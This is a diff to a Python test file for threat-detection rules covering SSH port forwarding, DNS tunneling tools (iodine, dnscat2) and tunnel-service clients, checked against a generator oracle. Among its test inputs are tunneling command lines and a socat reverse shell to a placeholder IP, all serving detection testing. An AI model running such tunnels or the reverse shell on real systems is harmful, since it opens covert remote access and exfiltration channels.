@@ -18,6 +18,8 @@ SSH_PLAIN = [
     "plink.exe -batch -hostkey SHA256:abc -P 443 -pw pass -R 8080:10.0.0.20:80 u@203.0.113.2",
     "autossh -M 0 -N -R 2222:10.0.0.3:8443 relay@203.0.113.3",
     "ssh -R 3389:host:33890 u@203.0.113.6 -x",  # forwards to 33890, not to RDP
+    'ssh -o "LocalForward 8443 intranet.corp.example.com:443" jump.corp.example.com',  # the same, as an option
+    "ssh -oDynamicForward=1080 jump.corp.example.com",
 ]
 SSH_SENSITIVE = [
     "plink.exe  10.0.2.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 -l test -pw test",
@@ -26,6 +28,8 @@ SSH_SENSITIVE = [
     "putty.exe -ssh -R 2222:127.0.0.1:22 u@203.0.113.4",
     "ssh -NR 13389:[::1]:3389 u@203.0.113.5",
     "ssh -L 8080:localhost:80 bastion.corp.example.com",  # a loopback target: scored higher, as the brief asks
+    'ssh -o "RemoteForward 8022 localhost:22" relay@203.0.113.9',
+    "ssh -o RemoteForward=13389:10.0.0.5:3389 relay@203.0.113.9",
 ]
 SSH_NEAR_MISSES = [
     "ssh -l admin -p 22 bastion.corp.example",
@@ -34,6 +38,8 @@ SSH_NEAR_MISSES = [
     "ssh -D user@host",
     "scp -P 22 file.txt u@10.0.0.5:/tmp/",
     "git.exe -c core.sshCommand=ssh fetch",
+    "ssh -o ForwardAgent=yes bastion.corp.example",
+    'ssh -o "LocalCommand echo 8080:localhost:80" bastion.corp.example',
 ]
 
 
@@ -91,6 +97,10 @@ TOOL_HITS = {
     "iodine -f -P secret 10.0.0.1 t.example.net": "iodine",
     "dnscat.exe --dns server=203.0.113.2,domain=t.example.net": "dnscat2",
     "ruby dnscat2.rb --secret=abc t.example.net": "dnscat2",
+    "C:\\ProgramData\\iodine.exe -f -r -P s3cret 203.0.113.66 t1.example.net": "iodine",  # a Windows path
+    'powershell.exe -c "Import-Module .\\dnscat2.ps1; Start-Dnscat2 -Domain t2.example.net -DNSServer 10.0.0.1"': (
+        "dnscat2"
+    ),
 }
 TOOL_NEAR_MISSES = [
     "chisel.exe --help",
@@ -103,6 +113,7 @@ TOOL_NEAR_MISSES = [
     "python -c print(1)",
     "nslookup -type=txt t.example.net",
     "git clone https://github.com/iagox86/dnscat2",
+    "socat.exe TCP4:203.0.113.68:4444 EXEC:cmd.exe,pipes",  # a reverse shell, not a relay
     "curl -L https://example.com -o x",
     "curl.exe -L https://example.com:8443/x -o x",
     "tool.exe -L https://example.com/path",
@@ -123,9 +134,11 @@ def test_current_tunnel_service_clients() -> None:
         "Current Tunnel Service Client Command Line",
         hits=["tailscale.exe funnel --bg 3000", "tailscale funnel 443 on", "zrok.exe share public localhost:8080",
               "zrok share private 127.0.0.1:3389", "localtonet.exe authtoken AbC123", "playit.exe --secret abc",
+              "playit.exe --secret_path C:\\ProgramData\\playit\\playit.toml start",
               "ngrok.exe http 80 --connect-url=tunnel.partner.example:443",
               "cloudflared tunnel --hostname app.example.com --url localhost:8080"],
-        misses=["tailscale.exe status", "tailscale serve 3000", "zrok.exe enable abc123", "zrok status",
+        misses=["tailscale.exe status", "tailscale funnel status", "tailscale.exe funnel reset", "tailscale serve 3000",
+                "zrok.exe enable abc123", "zrok status",
                 "ngrok http 80", "cloudflared tunnel list", "gh auth token", "funnel.exe"],
     )  # fmt: skip
 
@@ -193,3 +206,28 @@ def test_port_proxy_registry_values() -> None:
         value("iphlpsvc\\Parameters\\PortProxy"),
     ]
     assert found("Port Proxy Rule in Registry", REGISTRY, rows, "registry_value_name") == ["0.0.0.0/8001", "::/8002"]
+
+
+# --- the generator's oracle, written from the same descriptions, agrees with the SPL on every case above ---------
+
+
+def test_generator_oracle_agrees_with_the_protocol_tunnel_detections() -> None:
+    from tunnelhunt.generate import oracle
+
+    commands = [*SSH_PLAIN, *SSH_SENSITIVE, *SSH_NEAR_MISSES, *TOOL_HITS, *TOOL_NEAR_MISSES,
+                "netsh I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1", "netsh interface portproxy show all",
+                "sc.exe config iphlpsvc start= auto", "sc.exe config iphlpsvc start= disabled", "sc query iphlpsvc",
+                "tailscale funnel status", "tailscale.exe funnel --bg 3000",
+                "playit.exe --secret_path p.toml start"]  # fmt: skip
+    names = ("SSH Client Port Forwarding", "SSH Tunnel to Remote Access Port or Loopback",
+             "Netsh Port Proxy Rule Added", "IP Helper Service Started or Enabled from Command Line",
+             "Tunnel or Proxy Tool Command Line",
+             "Current Tunnel Service Client Command Line")  # fmt: skip
+    rows = [{"dest": "wks-1", "user": "u", "process": c, "process_name": oracle.basename(c.split()[0].strip('"'))}
+            for c in commands]  # fmt: skip
+    by_spl: dict[str, set[str]] = {c: set() for c in commands}
+    with store_with(PROCESSES, rows) as store:
+        for name in names:
+            for row in run_detection(store, BY_NAME[name], CONTENT.macros).rows:
+                by_spl[row["process"]].add(name)
+    assert by_spl == {r["process"]: set(oracle.protocol_tunnel_rows(r["process_name"], r["process"])) for r in rows}
